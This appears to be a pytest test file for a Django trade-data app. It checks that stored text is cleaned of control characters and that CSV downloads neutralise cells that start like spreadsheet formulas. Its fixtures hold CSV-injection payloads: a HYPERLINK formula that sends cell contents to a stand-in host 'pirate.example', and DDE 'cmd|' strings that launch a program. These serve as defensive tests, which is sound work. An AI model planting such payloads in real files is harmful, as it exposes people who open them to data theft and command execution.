"""Typed trade text is stored clean, and CSV downloads never hand a
spreadsheet a formula."""

import csv
import io
import json

import pytest
from django.urls import reverse

from articles.text import codepoint
from trade.exports import spreadsheet_safe
from trade.models import Acknowledgement, Basis, Figure, Indicator, Source, Target

from .factories import make_figure, make_indicator, make_pair, make_source
from .test_articles_control_characters import FORBIDDEN, KEPT

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("char", FORBIDDEN, ids=codepoint)
def test_every_typed_trade_field_stores_clean_text(char):
    typed = f"Début{char}fin"
    source = make_source(publisher=typed, title=typed)
    indicator = make_indicator(name=typed)
    figure = make_figure(
        indicator=indicator, source=source, story_words=typed, quote=typed, note=typed
    )
    pair = make_pair()
    target = Target.objects.create(
        slug="objectif",
        pair=pair,
        indicator=indicator,
        basis=Basis.STATEMENT,
        statement=typed,
        source=source,
        multiplier=2,
        unit=indicator.unit,
        scale=indicator.scale,
        target_year=2030,
        note=typed,
    )
    note = Acknowledgement.objects.create(figure=figure, check_key="cle", note=typed)

    clean = f"Début{KEPT.get(char, '')}fin"
    source = Source.objects.get(pk=source.pk)
    assert (source.publisher, source.title) == (clean, clean)
    assert Indicator.objects.get(pk=indicator.pk).name == clean
    figure = Figure.objects.get(pk=figure.pk)
    assert (figure.story_words, figure.quote, figure.note) == (clean, clean, clean)
    target = Target.objects.get(pk=target.pk)
    assert (target.statement, target.note) == (clean, clean)
    assert Acknowledgement.objects.get(pk=note.pk).note == clean


HOSTILE = {
    "quote": '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
    "note": "+cmd|' /C calc'!A0",
    "story_words": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def csv_rows(client, name="trade:download-csv"):
    response = client.get(reverse(name))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_csv_cells_starting_like_a_formula_are_neutralised(client):
    indicator = make_indicator(non_negative=False, name="-Variation annuelle")
    source = make_source(publisher="-2+3+cmd|' /C calc'!A0", title="\tTitre tabulé")
    figure = make_figure(indicator=indicator, source=source, value="-5.2", **HOSTILE)

    (row,) = csv_rows(client)
    assert row["id"] == figure.slug
    assert row["quote"] == "'" + HOSTILE["quote"]
    assert row["note"] == "'" + HOSTILE["note"]
    assert row["story_words"] == "'" + HOSTILE["story_words"]
    assert row["source_publisher"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["source_title"] == "'\tTitre tabulé"
    assert row["indicator_name"] == "'-Variation annuelle"
    # Numbers stay numbers, and cells that cannot start a formula stay as they are.
    assert row["value"] == "-5.2"
    assert row["scale"] == str(figure.scale)
    assert row["period_start"] == figure.period_start.isoformat()
    assert row["source_url"] == source.url


def test_json_download_gives_the_text_as_typed(client):
    make_figure(**HOSTILE)
    data = json.loads(client.get(reverse("trade:download-json")).content)
    (row,) = data["figures"]
    assert {name: row[name] for name in HOSTILE} == HOSTILE


@pytest.mark.parametrize(
    "cell, safe",
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcaché", "'\tcaché"),
        ("\rcaché", "'\rcaché"),
        ("-5.2", "-5.2"),
        ("+12", "+12"),
        ("-1E+1", "-1E+1"),
        ("43.8", "43.8"),
        ("Douanes chinoises", "Douanes chinoises"),
        ("a = b", "a = b"),
        ("", ""),
        (9, 9),
    ],
)
def test_spreadsheet_safe_prefixes_formulas_only(cell, safe):
    assert spreadsheet_safe(cell) == safe
